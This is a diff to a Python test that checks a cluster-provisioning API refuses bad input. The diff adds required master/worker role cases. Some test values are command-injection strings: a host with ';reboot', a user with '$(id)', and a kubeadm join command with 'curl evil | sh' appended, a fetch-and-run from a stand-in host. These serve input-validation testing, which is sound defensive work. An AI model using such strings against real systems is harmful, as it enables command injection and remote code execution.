@@ -149,15 +149,22 @@ async def test_new_cluster_streams_progress_as_server_sent_events(ssh_lab: SshLa
 async def test_bad_input_is_refused_before_anything_runs(ssh_lab: SshLab, data_dir: Path) -> None:
     host, machine = add_machine(ssh_lab, "refusing")
     good = ssh_params(host)
+    master, worker = {**good, "role": "master"}, {**good, "role": "worker"}  # the document requires `role`
     cases: list[tuple[str, dict[str, str], str]] = [
-        (f"{PCAPI}/new_cluster", {**good, "host": "10.0.0.1;reboot"}, "host"),
-        (f"{PCAPI}/new_cluster", {**good, "user": "kbosst$(id)"}, "user"),
-        (f"{PCAPI}/new_cluster", {**good, "install_mode": "sideways"}, "install_mode"),
-        (f"{PCAPI}/new_cluster", {**good, "install_mode": "offline"}, "bundle"),
-        (f"{PCAPI}/new_cluster", {**good, "cluster_type": "slurm"}, "cluster_type"),
+        (f"{PCAPI}/new_cluster", {**master, "host": "10.0.0.1;reboot"}, "host"),
+        (f"{PCAPI}/new_cluster", {**master, "user": "kbosst$(id)"}, "user"),
+        (f"{PCAPI}/new_cluster", {**master, "install_mode": "sideways"}, "install_mode"),
+        (f"{PCAPI}/new_cluster", {**master, "install_mode": "offline"}, "bundle"),
+        (f"{PCAPI}/new_cluster", {**master, "cluster_type": "slurm"}, "cluster_type"),
         (f"{PCAPI}/new_cluster", {**good, "role": "worker"}, "role"),
-        (f"{PCAPI}/new_worker", good, "join_command"),
-        (f"{PCAPI}/new_worker", {**good, "join_command": "kubeadm join 10.0.0.1:6443; curl evil | sh"}, "join_command"),
+        (f"{PCAPI}/new_cluster", good, "role"),
+        (f"{PCAPI}/new_worker", good, "role"),
+        (f"{PCAPI}/new_worker", worker, "join_command"),
+        (
+            f"{PCAPI}/new_worker",
+            {**worker, "join_command": "kubeadm join 10.0.0.1:6443; curl evil | sh"},
+            "join_command",
+        ),
         (f"{NATIVE}/provision/steps/format_disks", good, "name"),
         (f"{NATIVE}/provision/steps/kubeadm_join", {**good, "role": "master"}, "role"),
         (f"{NATIVE}/provision/steps/preflight", {**good, "stream": "perhaps"}, "stream"),
